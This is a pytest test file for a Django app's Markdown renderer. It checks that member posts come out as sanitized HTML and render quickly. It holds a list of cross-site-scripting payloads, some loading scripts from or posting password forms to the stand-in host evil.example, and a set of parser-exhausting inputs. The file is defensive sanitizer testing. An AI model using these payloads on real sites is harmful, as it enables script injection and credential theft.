"""Members' Markdown reaches the page only as cleaned HTML: no hostile input survives."""

import time

import pytest
from bs4 import BeautifulSoup

from taskforces import services
from taskforces.markup import find_mentions, mention_handle, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">click</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<style>body { background: url("javascript:alert(1)") }</style>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<img src="x" onerror=alert(1)//',
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example" target="_blank" onfocus="alert(1)" autofocus>ok</a>',
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
]

FORBIDDEN_TAGS = {
    "script",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "style",
    "meta",
    "base",
    "img",
    "details",
    "video",
    "source",
}


def dangerous_parts(html: str) -> list[str]:
    """Every tag, attribute or address in ``html`` that could run script or load content."""
    found = []
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        if element.name in FORBIDDEN_TAGS:
            found.append(f"<{element.name}>")
        for attribute, value in element.attrs.items():
            if attribute.startswith("on") or attribute in {"style", "src", "srcset", "action"}:
                found.append(f"{element.name}[{attribute}]")
            if attribute == "href":
                scheme = value.split(":", 1)[0].strip().lower() if ":" in value else ""
                if scheme not in {"", "http", "https", "mailto"}:
                    found.append(f"{element.name}[href={value}]")
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_input_survives_into_the_html(text):
    assert dangerous_parts(render_markdown(text)) == []


@pytest.mark.django_db
def test_no_hostile_input_survives_into_the_thread_page(workspace, sign_in_as):
    for text in HOSTILE:
        services.post_create(thread=workspace.thread, author=workspace.member, body=text)
    page = sign_in_as("chair").get(workspace.thread_url).content.decode()
    posts = BeautifulSoup(page, "html.parser").select(".post__body")
    assert len(posts) == len(HOSTILE) + 1
    assert [part for post in posts for part in dangerous_parts(str(post))] == []


def test_ordinary_markdown_keeps_its_meaning():
    html = render_markdown(
        "**Bold**, _italic_ and [a link](https://www.wipo.int).\n\n"
        "> quoted\n\n- one\n- two\n\n`code`"
    )
    soup = BeautifulSoup(html, "html.parser")
    assert soup.strong.text == "Bold"
    assert soup.em.text == "italic"
    assert soup.a["href"] == "https://www.wipo.int"
    assert soup.a["rel"] == ["nofollow", "noopener", "noreferrer"]
    assert soup.blockquote.text.strip() == "quoted"
    assert [li.text for li in soup.find_all("li")] == ["one", "two"]
    assert soup.code.text == "code"


def test_mentions_of_known_handles_are_marked_and_others_left_as_text():
    html = render_markdown(
        "Ask @lena.fischer, not @nobody or mail@lena.fischer", mentions=["lena.fischer"]
    )
    soup = BeautifulSoup(html, "html.parser")
    assert [span.text for span in soup.select("span.mention")] == ["@lena.fischer"]
    assert "@nobody" in soup.text


def test_a_hostile_mention_handle_cannot_break_out():
    html = render_markdown('@lena.fischer"><script>x</script>', mentions=["lena.fischer"])
    assert dangerous_parts(html) == []


def test_handles_are_made_from_names():
    assert mention_handle("Min-jun", "Kim", "member1") == "min.jun.kim"
    assert mention_handle("Youssef", "El Amrani", "member2") == "youssef.el.amrani"
    assert mention_handle("", "", "member3") == "member3"
    assert find_mentions("Hi @Min.Jun.Kim and @x", ["min.jun.kim"]) == {"min.jun.kim"}


# Inputs that made a quadratic (or recursive) parser take seconds or fail; each is at most
# the 20,000 characters a post may hold.
PATHOLOGICAL = {
    "open brackets": "[" * 19999,
    "open brackets, 8000": "[" * 8000,
    "open parentheses": "(" * 20000,
    "stars": "*" * 20000,
    "underscores": "_" * 20000,
    "backticks": "`" * 20000,
    "tildes": "~" * 20000,
    "quotes": "> " * 5000,
    "nested quotes": ">" * 20000,
    "nested list markers": "- " * 9999,
    "nested ordered lists": "1. " * 6666,
    "indented lists": "".join("  " * depth + "- x\n" for depth in range(130)),
    "unclosed links": "[a](" * 5000,
    "unclosed images": "![" * 10000,
    "empty links": "[](" * 6666,
    "angle brackets": "<" * 20000,
    "entities": "&#" * 10000,
    "table pipes": "|" * 20000,
    "mixed emphasis": "*_[`" * 5000,
    "short lines": "x\n" * 10000,
    "html tags": "<a>" * 6666,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_pathological_markdown_renders_quickly_and_clean(name):
    text = PATHOLOGICAL[name]
    assert len(text) <= 20000
    # CPU time of this process, so that other work on a busy machine does not count.
    started = time.process_time()
    html = render_markdown(text)
    assert time.process_time() - started < 1.0
    assert dangerous_parts(html) == []


def test_line_breaks_tables_and_fenced_code_keep_their_meaning():
    html = render_markdown("one\ntwo\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<b>x</b>\n```")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.br is not None
    assert [cell.text for cell in soup.select("td")] == ["1", "2"]
    assert soup.pre.code.text == "<b>x</b>\n"
